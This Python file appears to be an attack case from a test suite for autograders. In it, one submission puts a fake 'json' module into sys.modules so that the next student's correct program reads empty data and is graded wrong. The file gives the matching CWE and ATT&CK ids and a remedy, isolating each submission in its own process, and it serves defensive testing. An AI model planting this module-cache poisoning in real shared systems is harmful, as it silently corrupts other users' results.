# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer becomes wrong.
Means: sys.modules["json"], which is asked before any finder or file, names a module made up by the
       attacker. The next student's "import json" succeeds and loads nothing.
"""

import sys
import types

from attack import DONE, attempting, failed, honest, submit


def run(brief):
    attempting()
    fake = types.ModuleType("json")
    fake.loads = lambda text, **named: {}
    fake.dumps = lambda thing, **named: "{}"
    sys.modules["json"] = fake
    submit("0")
    return DONE


def victim(brief):
    """An exercise with a table in JSON: the sum of a column."""
    import json

    table = json.loads('[{"price": 3}, {"price": 5}, {"price": 8}]')
    total = sum(row["price"] for row in table)
    return honest(brief) if total == 16 else failed("read the table", f"the sum is {total}")


ATTACK = {
    "effect": "the next student's program computes with a false module and is marked wrong",
    "means": "a made-up module in sys.modules under the name of one that everybody imports",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "quick": True,
    "id": "WARM-02",
    "attack_id": "T1565.003, CWE-471",
    "remedy": "a process of its own for each submission, started fresh",
    "refs": ["The import system, 5.3.1 The module cache"],
    "run": run,
    "victim": victim,
}
